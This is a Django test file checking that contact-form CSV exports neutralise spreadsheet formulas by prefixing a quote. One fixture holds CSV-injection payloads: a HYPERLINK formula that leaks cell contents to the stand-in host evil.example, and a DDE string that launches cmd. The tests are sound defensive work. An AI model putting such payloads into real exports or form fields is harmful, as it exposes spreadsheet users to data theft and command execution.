"""CSV exports never hand a spreadsheet a formula (serving/spreadsheets.py)."""

import csv
import io

import pytest
from django.urls import reverse

from contact.models import ContactSubmission
from serving.spreadsheets import neutralise_cell


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_starting_a_formula_are_turned_into_text(prefix):
    assert neutralise_cell(f"{prefix}SUM(A1:A9)") == f"'{prefix}SUM(A1:A9)"


def test_ordinary_cells_and_numbers_are_unchanged():
    assert neutralise_cell("Chocolaterie du Lac") == "Chocolaterie du Lac"
    assert neutralise_cell(-5) == -5
    assert neutralise_cell("") == ""


@pytest.mark.django_db
def test_the_contact_export_neutralises_what_visitors_typed(admin_client):
    ContactSubmission.objects.create(
        name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        organisation="@SUM(1+1)*cmd|' /C calc'!A0",
        email="x@example.org",
        country="+33",
        request_type="other",
        message="-2+3",
        language="fr",
    )
    export = admin_client.get(
        reverse("wagtailsnippets_contact_contactsubmission:list"), {"export": "csv"}
    )
    text = b"".join(export.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Click")' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'+33" in cells and "'-2+3" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
